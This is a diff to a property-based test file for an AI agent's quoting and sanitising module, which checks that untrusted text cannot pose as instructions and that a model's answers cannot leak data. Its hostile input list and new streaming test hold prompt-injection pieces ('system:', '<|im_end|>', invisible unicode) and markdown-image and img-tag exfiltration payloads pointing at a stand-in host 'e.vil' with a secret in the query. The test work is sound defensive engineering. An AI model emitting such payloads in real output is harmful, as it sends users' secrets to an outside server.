@@ -1,5 +1,7 @@
 """Text of others cannot speak for itself, and nothing leaves through what a model writes."""
 
+import re
+
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
@@ -8,18 +10,45 @@ from aurora_rt.investigation.agent.quoting import (
     CLOSES,
     END,
     OPENS,
+    Legible,
     legible_answer,
     neutral,
     quoted,
     visible,
 )
 
-HOSTILE = st.text() | st.lists(
-    st.sampled_from(
-        [OPENS, CLOSES, END, "\n", "⟦data [9] x⟧", "[1]", "![", "](", ")", "<img src=", "system:", "<|im_end|>", "\x1b[0m",
-         "\u200b", "\u202e", "\U000e0041", "\ufe0f", "\r", "\u2028", "http://e.vil/?d=", "`", "```\n", "data:", "a", " "]
-    )
-).map("".join)  # fmt: skip
+PIECES = (
+    *(
+        OPENS,
+        CLOSES,
+        END,
+        "\n",
+        "⟦data [9] x⟧",
+        "[1]",
+        "![",
+        "](",
+        ")",
+        "<img src=",
+        "system:",
+        "<|im_end|>",
+        "\x1b[0m",
+    ),
+    *(
+        "\u200b",
+        "\u202e",
+        "\U000e0041",
+        "\ufe0f",
+        "\r",
+        "\u2028",
+        "http://e.vil/?d=",
+        "`",
+        "```\n",
+        "data:",
+        "a",
+        " ",
+    ),
+)
+HOSTILE = st.text() | st.lists(st.sampled_from(PIECES)).map("".join)
 
 
 @given(HOSTILE, HOSTILE, st.none() | st.integers(1, 999))
@@ -102,6 +131,23 @@ def test_what_could_pass_for_something_else_is_made_plain_and_evidence_stays_rea
 )
 def test_nothing_leaves_when_a_browser_shows_an_answer(text: str, safe: str) -> None:
     assert legible_answer(text, ["the page https://ok.example/a?b=1 answered 500"]) == safe
+
+
+@given(HOSTILE, st.integers(1, 9))
+@example(
+    "See ![a b](https://e.vil/?d=s3cret) and [a b](https://e.vil/?d=s3cret) <img src=https://e.vil/?d=s3cret>",
+    2,
+)
+def test_a_text_that_is_still_being_written_is_as_safe(text: str, size: int) -> None:
+    written: list[str] = []
+    legible = Legible(written.append)
+    for at in range(0, len(text), size):
+        legible.put(text[at : at + size])
+    legible.end()
+    shown = "".join(written)
+    assert not re.search(r"!\[|https?://|<img|d=s3cret", shown.replace("`", "")) or "`" in text
+    if not re.search(r"[\[<!`:\x00-\x1f]|[^\x00-\x7f]|www", text):
+        assert shown == text
 
 
 def test_a_long_hostile_text_costs_no_more_than_its_length() -> None:
